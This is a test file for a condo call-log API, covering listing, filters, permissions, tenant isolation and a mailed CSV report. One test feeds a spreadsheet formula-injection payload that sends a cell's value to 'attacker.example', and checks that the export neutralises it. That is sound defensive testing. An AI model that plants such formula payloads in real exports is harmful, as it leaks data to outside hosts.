import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { parse } from 'csv-parse/sync';
import { and, asc, eq, inArray, sql } from 'drizzle-orm';
import { callLogs, condos, devices, outboxes, residents } from '../../db/schema';
import { generateCallLogs } from '../../seed/demo-call-logs';
import { demoBotToken, demoMac } from '../../seed/demo-devices';
import { DEMO, startTestApp, type TestApp } from '../../test/harness';
import { REPORT_MESSAGE } from './routes';

const MB = '/tenants/marina-bay';
const OG = '/tenants/orchid-gardens';
// The fixture lives in a week of 2020, where the generator (8 weeks ending now) never writes.
const FROM = '2020-03-02T00:00:00.000Z';
const TO = '2020-03-08T23:59:59.000Z';
const RANGE = `from_time=${FROM}&to_time=${TO}`;

type Fixture = [status: string, gate: string | null, type: 'ivr' | 'video_call', day: number, forwardedTo?: string];
/** 10 hand-made calls of marina-bay, and 2 of orchid-gardens in the same week. */
const MINE: Fixture[] = [
  ['answered', 'accepted', 'ivr', 2],
  ['answered', null, 'video_call', 2],
  ['success', 'accepted', 'ivr', 3],
  ['success', 'declined', 'video_call', 3],
  ['busy', 'accepted', 'ivr', 4],
  ['busy', 'requested', 'ivr', 4, 'secondary'],
  ['forwarded', null, 'video_call', 5, 'primary'],
  ['canceled', null, 'ivr', 5],
  ['failed', 'requested', 'ivr', 6],
  ['created', null, 'video_call', 7],
];
const THEIRS: Fixture[] = [
  ['answered', 'accepted', 'ivr', 3],
  ['forwarded', null, 'ivr', 4, 'primary'],
];

let t: TestApp;
const condoIds: Record<string, number> = {};

async function insertFixture(alias: string, fixture: Fixture[]) {
  const db = t.database.db;
  const [condo] = await db.select({ id: condos.id }).from(condos).where(eq(condos.aliasName, alias));
  const condoId = (condo as { id: number }).id;
  condoIds[alias] = condoId;
  await db.insert(callLogs).values(
    fixture.map(([status, gate, type, day, forwardedTo], index) => ({
      condoId,
      status: status as never,
      gateOpen: gate as never,
      residentName: `${alias} resident ${index}`,
      residentPhone: `9000000${index}`,
      forwardedCall: Boolean(forwardedTo),
      forwardedTo: (forwardedTo ?? null) as never,
      unitNumber: `#0${index}-01`,
      callType: type,
      deviceName: 'Main gate vizitin',
      deviceMac: 'AA:BB:CC:DD:EE:01',
      forwardedReason: forwardedTo ? 'No answer from the unit' : null,
      createdAt: new Date(Date.parse(`2020-03-0${day}T10:00:00.000Z`) + index * 60_000),
    })),
  );
}

before(async () => {
  t = await startTestApp();
  await insertFixture('marina-bay', MINE);
  await insertFixture('orchid-gardens', THEIRS);
});
after(() => t.close());

async function get(path: string, query = RANGE, as: string = DEMO.manager, condo = MB) {
  return t.app.inject({ method: 'GET', url: `${condo}/api/v1/call_logs${path}?${query}`, headers: await t.authAs(as) });
}
const list = async (query: string) => {
  const response = await get('', `${RANGE}&per_page=100&${query}`);
  assert.equal(response.statusCode, 200, response.body);
  return response.json() as {
    data: { status: string; gate_open: string | null; call_type: string }[];
    total_entries: number;
  };
};
const expected = (keep: (row: Fixture) => boolean) => MINE.filter(keep).length;

describe('Call logs', () => {
  test('lists the range newest first with the spec’s row shape; totals match the fixture', async () => {
    const response = await get('', `${RANGE}&page=1&per_page=4`);
    assert.equal(response.statusCode, 200, response.body);
    const body = response.json();
    assert.equal(body.total_entries, MINE.length);
    assert.equal(body.data.length, 4);
    assert.deepEqual(Object.keys(body.data[0]).sort(), [
      'call_type',
      'created_at',
      'device_data',
      'forwarded_call',
      'forwarded_reason',
      'forwarded_to',
      'gate_open',
      'id',
      'resident',
      'status',
      'unit_number',
    ]);
    assert.deepEqual(body.data[0].device_data, { name: 'Main gate vizitin', mac_address: 'AA:BB:CC:DD:EE:01' });
    assert.equal(body.data[0].status, 'created', 'newest first');
    const times = body.data.map((row: { created_at: string }) => Date.parse(row.created_at));
    assert.deepEqual(
      times,
      [...times].sort((a, b) => b - a),
    );
    const all = await list('');
    const forwarded = all.data.find((row) => row.status === 'forwarded') as unknown as Record<string, unknown>;
    assert.equal(forwarded.forwarded_call, true);
    assert.equal(forwarded.forwarded_to, 'primary');
    assert.equal(forwarded.forwarded_reason, 'No answer from the unit');
    assert.deepEqual(forwarded.resident, { name: 'marina-bay resident 6', phone: '90000006' });
    assert.equal((await get('', `${RANGE}&page=3&per_page=4`)).json().data.length, 2);
  });

  test('filters: repeated call_type, status[], gate_open[] and the date range', async () => {
    assert.equal(
      (await list('call_type=ivr')).total_entries,
      expected((row) => row[2] === 'ivr'),
    );
    assert.equal((await list('call_type=ivr&call_type=video_call')).total_entries, MINE.length);
    const answered = await list('status[]=answered&status[]=success');
    assert.equal(
      answered.total_entries,
      expected((row) => ['answered', 'success'].includes(row[0])),
    );
    for (const row of answered.data) assert.ok(['answered', 'success'].includes(row.status));
    // Forwarded (spec §4 reverse mapping): busy, forwarded, failed plus gate_open requested.
    const forwarded = await list('status[]=busy&status[]=forwarded&status[]=failed&gate_open[]=requested');
    assert.equal(
      forwarded.total_entries,
      expected((row) => ['busy', 'forwarded', 'failed'].includes(row[0]) && row[1] === 'requested'),
    );
    assert.equal(forwarded.total_entries, 2);
    const accepted = await list('status[]=busy&gate_open[]=accepted&call_type=ivr');
    assert.equal(accepted.total_entries, 1);
    const day = await get('', 'from_time=2020-03-05T00:00:00Z&to_time=2020-03-05T23:59:59Z');
    assert.equal(
      day.json().total_entries,
      expected((row) => row[3] === 5),
    );
    const count = await get('/count', `${RANGE}&status[]=created`);
    assert.equal(count.statusCode, 200, count.body);
    assert.deepEqual(count.json(), { data: { total: 1 } });
    assert.equal((await get('', `${RANGE}&status[]=ringing`)).statusCode, 422);
  });

  test('the range: to before from and more than 30 days are 422 with a clear message; the default is this week', async () => {
    const backwards = await get('', `from_time=${TO}&to_time=${FROM}`);
    assert.equal(backwards.statusCode, 422);
    assert.match(backwards.json().message, /to_time must not be before from_time/);
    const long = await get('', 'from_time=2020-01-01T00:00:00Z&to_time=2020-02-01T00:00:00Z');
    assert.equal(long.statusCode, 422);
    assert.match(long.json().message, /may not exceed 30 days/);
    assert.equal((await get('', 'from_time=2020-01-01T00:00:00Z&to_time=2020-01-31T00:00:00Z')).statusCode, 200);
    assert.equal((await get('', 'from_time=yesterday')).statusCode, 422);
    const report = await get('/generate_report', 'from_time=2020-01-01T00:00:00Z&to_time=2020-03-01T00:00:00Z');
    assert.equal(report.statusCode, 422);
    // Without a range: Monday 00:00 UTC of this week to now, where the fixture is not.
    const thisWeek = (await get('', 'per_page=500')).json();
    const now = t.clock.now();
    const monday =
      Date.UTC(now.getUTCFullYear(), now.getUTCMonth(), now.getUTCDate()) - ((now.getUTCDay() + 6) % 7) * 86_400_000;
    for (const row of thisWeek.data) assert.ok(Date.parse(row.created_at) >= monday);
    assert.ok(
      !thisWeek.data.some((row: { resident: { name: string } }) => row.resident.name?.startsWith('marina-bay')),
    );
  });

  test('permissions and isolation: a viewer may not list; another condo’s calls never appear', async () => {
    assert.equal((await get('', RANGE, DEMO.viewer)).statusCode, 403);
    assert.equal((await get('/generate_report', RANGE, DEMO.viewer)).statusCode, 403);
    const mine = (await list('')).data as unknown as { resident: { name: string } }[];
    assert.ok(mine.every((row) => row.resident.name.startsWith('marina-bay')));
    const theirs = (await get('', `${RANGE}&per_page=100`, DEMO.admin, OG)).json();
    assert.equal(theirs.total_entries, THEIRS.length);
    assert.ok(
      theirs.data.every((row: { resident: { name: string } }) => row.resident.name.startsWith('orchid-gardens')),
    );
  });

  test('generate_report queues a job that mails the CSV of the filtered calls to the caller as an attachment (Outbox)', async () => {
    const response = await get('/generate_report', `${RANGE}&status[]=answered&status[]=success`);
    assert.equal(response.statusCode, 200, response.body);
    assert.deepEqual(response.json(), { message: REPORT_MESSAGE });
    await t.app.jobs.drain();
    const mail = t.mail.last(DEMO.manager);
    assert.match(mail.subject, /^Call log report: /);
    const [attachment, ...others] = mail.attachments ?? [];
    assert.equal(others.length, 0);
    assert.match(attachment?.filename ?? '', /^call-logs-\d{4}-\d{2}-\d{2}\.csv$/);
    assert.equal(attachment?.contentType, 'text/csv; charset=utf-8');
    assert.ok(!mail.text.includes('Resident name'), 'the rows are attached, not pasted into the body');
    assert.match(mail.text, /attached as a CSV file \(call-logs-[\d-]+\.csv\): 4 call\(s\), newest first\./);
    const csvText = String(attachment?.content);
    assert.ok(csvText.startsWith('\uFEFFResident name,'), 'UTF-8 with a BOM, titles first');
    const records = parse(csvText, { bom: true, columns: true, skip_empty_lines: true }) as Record<string, string>[];
    assert.equal(
      records.length,
      expected((row) => ['answered', 'success'].includes(row[0])),
    );
    assert.ok(records.every((record) => ['answered', 'success'].includes(record.Status as string)));
    assert.ok(records.every((record) => record['Resident name']?.startsWith('marina-bay')));
    assert.deepEqual(
      records.map((record) => record['Triggered at']),
      records
        .map((record) => record['Triggered at'])
        .sort()
        .reverse(),
      'newest first',
    );
    const [outbox] = await t.database.db
      .select({
        subject: outboxes.subject,
        condoId: outboxes.condoId,
        content: outboxes.content,
        attachments: outboxes.attachments,
      })
      .from(outboxes)
      .where(eq(outboxes.subject, mail.subject));
    assert.equal(outbox?.condoId, condoIds['marina-bay']);
    assert.equal(outbox?.content, mail.text, 'the Outbox keeps the short body');
    assert.deepEqual(
      outbox?.attachments.map(({ filename, contentType }) => ({ filename, contentType })),
      [{ filename: attachment?.filename, contentType: 'text/csv; charset=utf-8' }],
    );
  });

  test('the mailed CSV holds no formula: a bot’s =HYPERLINK reason goes out as text behind a quote', async () => {
    const injected = '=HYPERLINK("http://attacker.example/?x="&A2,"Details")';
    const posted = await t.app.inject({
      method: 'POST',
      url: `${MB}/api/v1/call_logs`,
      headers: { authorization: `Token ${demoBotToken('marina-bay', 'vizitin')}` },
      payload: {
        call_log: {
          status: 'forwarded',
          call_type: 'ivr',
          unit_number: '@SUM(1+1)',
          mac_address: demoMac('marina-bay', 'Tower A Entrance'),
          forwarded_call: true,
          forwarded_to: 'secondary',
          forwarded_reason: injected,
        },
      },
    });
    assert.equal(posted.statusCode, 201, posted.body);
    const now = t.clock.now().getTime();
    const range = `from_time=${new Date(now - 3600_000).toISOString()}&to_time=${new Date(now + 60_000).toISOString()}`;
    const response = await get('/generate_report', range);
    assert.equal(response.statusCode, 200, response.body);
    await t.app.jobs.drain();
    const mail = t.mail.last(DEMO.manager);
    const csvText = String(mail.attachments?.[0]?.content);
    const records = parse(csvText, { bom: true, columns: true, skip_empty_lines: true }) as Record<string, string>[];
    const mine = records.find((record) => record.Reason?.includes('attacker.example'));
    assert.equal(mine?.Reason, `'${injected}`);
    assert.equal(mine?.['Unit Number'], "'@SUM(1+1)");
    assert.equal(mine?.Status, 'forwarded');
  });

  test('the demo generator: same inputs, same calls; consistent with the condo’s residents and devices', async () => {
    const db = t.database.db;
    const condoId = condoIds['marina-bay'] as number;
    const people = await db
      .select({ id: residents.id, name: residents.name, phone: residents.phone, unitNumber: residents.unitNumber })
      .from(residents)
      .where(eq(residents.condoId, condoId))
      .orderBy(asc(residents.id))
      .limit(80);
    const gates = await db
      .select({ id: devices.id, name: devices.name, macAddress: devices.macAddress })
      .from(devices)
      .where(and(eq(devices.condoId, condoId), inArray(devices.kind, ['vizitin', 'kiosk'])));
    const now = new Date('2026-01-15T12:00:00Z');
    const first = generateCallLogs(condoId, people, gates, now);
    const second = generateCallLogs(condoId, people, gates, now);
    assert.deepEqual(first, second);
    assert.ok(first.length > 200, `about 8 weeks of calls (${first.length})`);
    const answered = first.filter((row) => ['answered', 'success'].includes(row.status)).length;
    assert.ok(answered > first.length / 2, 'mostly answered');
    assert.ok(first.some((row) => row.forwardedCall && row.forwardedTo));
    const gateIds = new Set(gates.map((gate) => gate.id));
    assert.ok(first.every((row) => gateIds.has(row.deviceId as number) && row.createdAt && row.createdAt <= now));
    // The seeded database has them too, for every condo.
    const [seeded] = await db
      .select({ n: sql<number>`count(DISTINCT ${callLogs.condoId})::int` })
      .from(callLogs)
      .where(sql`${callLogs.createdAt} > now() - interval '60 days'`);
    assert.ok((seeded?.n ?? 0) > 1);
  });
});
